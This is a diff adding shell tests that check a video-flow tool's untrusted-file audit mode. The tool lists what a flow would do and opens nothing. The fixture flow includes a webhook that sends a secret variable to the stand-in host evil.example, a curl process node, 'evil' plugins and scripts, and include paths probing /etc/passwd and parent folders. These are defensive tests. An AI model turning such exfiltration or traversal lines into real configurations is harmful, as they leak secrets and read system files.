@@ -314,4 +314,87 @@ it 'writes no file when it tries settings of an encoder' '
 	grep "options.tune: " err
 '
 
+cat >listed.yaml <<'END'
+vflow: 1
+include: parts/more.yaml
+plugins: ./evil.so
+transport: {tcp: {host: 127.0.0.1, base: 7000}}
+vars: {where: out}
+nodes:
+  r: {type: video_reader, path: "rtsp://user:pw@cam/1"}
+  f: {type: filter, inputs: r, graph: "lut3d=file=x.cube,vidstabdetect,hflip", unsafe: true}
+  p: {type: python, inputs: f, call: "evil.py:process"}
+  d: {type: detect, inputs: f, model: m.onnx, runtime: ./ort.so, provider: cpu}
+  w: {type: video_writer, inputs: f, path: "${where}/a-{seq:03d}.mp4", segment_time: 10, keep: 5, hw: "off"}
+  h: {type: webhook, inputs: d.objects, url: "https://evil.example/${SECRET_OF_TEST:-x}"}
+  x: {type: own, inputs: f}
+  c: {type: process, inputs: f, command: [curl, "http://x"]}
+END
+mkdir parts
+echo '{vflow: 1, nodes: {z: {type: zmq_in, endpoint: "ipc://pipe"}, v: {type: print, inputs: z}}}' >parts/more.yaml
+cat >listed <<'END'
+connects to https://evil.example/x (h)
+connects to ipc://pipe (z: endpoint)
+connects to rtsp://***@cam/1 (r: path)
+does whatever the code of a plugin does own (x)
+includes parts/more.yaml
+listens on tcp://127.0.0.1, from port 7000 on
+loads code from ./evil.so
+loads code from ./ort.so (d: runtime)
+reads m.onnx (d: model)
+reads the variable SECRET_OF_TEST
+reads x.cube (f)
+removes files named out/a-{seq:03d}.mp4 (w: path)
+runs Python code evil.py:process (p: call)
+runs curl (c)
+runs python3 (p)
+writes out/a-{seq:03d}.mp4 (w: path)
+writes transforms.trf (f; only with --allow-unsafe)
+END
+
+it 'lists what a flow would do, and opens nothing for it' '
+	sed -i "s/{type: zmq_in, /&mode: connect, /" parts/more.yaml
+	has vidstabdetect || sed -i "s/vidstabdetect,//" listed.yaml
+	has vidstabdetect || sed -i "/transforms.trf/d" listed
+	expect 0 "$VFLOW" check --untrusted listed.yaml
+	unharmed
+	while read -r line
+	do
+		says out "$line"
+	done <listed
+	cp out first
+	expect 0 env SECRET_OF_TEST=y "$VFLOW" check --untrusted listed.yaml
+	sed "s,example/x,example/y," first | cmp - out
+	expect 0 "$VFLOW" check --untrusted --json listed.yaml
+	python3 -c "
+import json
+said = json.load(open(\"out\"))
+assert said[\"mistakes\"] == [], said
+deeds = said[\"flows\"][\"listed.yaml\"]
+assert len(deeds) == len(open(\"first\").readlines())
+assert {\"does\": \"reads\", \"name\": \"m.onnx\", \"node\": \"d\", \"option\": \"model\", \"needs_allow_unsafe\": False} in deeds
+"
+	command -v strace >/dev/null || exit 0
+	ASAN_OPTIONS=${ASAN_OPTIONS:+$ASAN_OPTIONS:}detect_leaks=0 strace -f -o calls -e trace=open,openat,network \
+		"$VFLOW" check --untrusted listed.yaml >out
+	grep -v -e " = -1 " calls | sed -n "s/.*open[a-z]*(\(AT_FDCWD, \)*\"\([^/][^\"]*\).*/\2/p" | sort -u >opened
+	printf "%s\n" listed.yaml parts/more.yaml | cmp - opened
+'
+
+it 'lists no flow that is made of files elsewhere, and says what is wrong as ever' '
+	for file in /etc/passwd ../listed.yaml
+	do
+		mkdir -p inner
+		printf "%s\n" "vflow: 1" "include: $file" "nodes: {in: {type: int_source}}" >inner/flow.yaml
+		expect 78 "$VFLOW" check --untrusted inner/flow.yaml
+		grep "^inner/flow.yaml:2:10: \".*\" is outside of the folder of the flow, and so is not opened" err
+	done
+	flow "x: {type: filter, inputs: in, graph: zmq}" "o: {type: void, inputs: x}"
+	expect 78 "$VFLOW" check --untrusted flow.yaml
+	grep "set unsafe: true" err
+	flow "x: {type: risize, inputs: in}"
+	expect 78 "$VFLOW" check --untrusted --json flow.yaml
+	grep "did you mean" out
+'
+
 done_testing
